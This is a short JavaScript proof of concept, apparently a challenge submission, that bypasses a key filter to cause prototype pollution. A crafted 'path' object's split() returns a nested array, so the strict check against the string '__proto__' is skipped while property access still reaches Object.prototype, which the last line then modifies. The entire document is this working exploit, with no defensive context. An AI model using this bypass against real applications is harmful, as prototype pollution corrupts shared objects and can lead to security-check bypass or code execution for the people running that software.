// split is the submission's own
const path = { words: [['__proto__']], split() { return this.words; } };
const get = (o, w) => { for (const k of w.split('.')) { if (k === '__proto__' || k === 'constructor') continue; o = o[k]; } return o; };
(get({}, path)).polluted = 1;
